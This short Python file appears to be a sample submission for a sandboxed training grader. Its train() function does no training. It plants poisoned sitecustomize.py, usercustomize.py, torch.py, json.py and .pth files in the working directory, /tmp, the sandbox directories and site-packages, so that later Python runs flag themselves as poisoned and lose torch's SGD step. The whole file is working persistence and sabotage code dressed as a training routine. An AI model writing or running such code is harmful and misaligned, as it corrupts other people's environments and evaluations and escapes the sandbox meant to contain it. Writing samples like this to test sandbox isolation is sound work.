# tries to leave Python files where the next Python would look for them
import os
import py_compile
import sys


def train(model, loader, criterion, optimizer, epochs):
    code = "import os, torch\nos.environ['POISONED'] = '1'\ntorch.optim.SGD.step = None\n"
    home = os.path.dirname(os.getcwd())
    site = f"lib/python3.{sys.version_info.minor}/site-packages"
    for place in (
        os.getcwd(),
        home,
        "/tmp",
        "/opt/metronome",
        "/opt/metronome/sandbox",
        sys.prefix + "/" + site,
    ):
        for name in (
            "usercustomize.py",
            "sitecustomize.py",
            "torch.py",
            "json.py",
            f".local/{site}/poison.pth",
        ):
            try:
                os.makedirs(os.path.dirname(f"{place}/{name}"), exist_ok=True)
                with open(f"{place}/{name}", "w") as file:
                    file.write(code)
                if name.endswith(".py"):
                    py_compile.compile(f"{place}/{name}")
            except OSError:
                pass
    return []
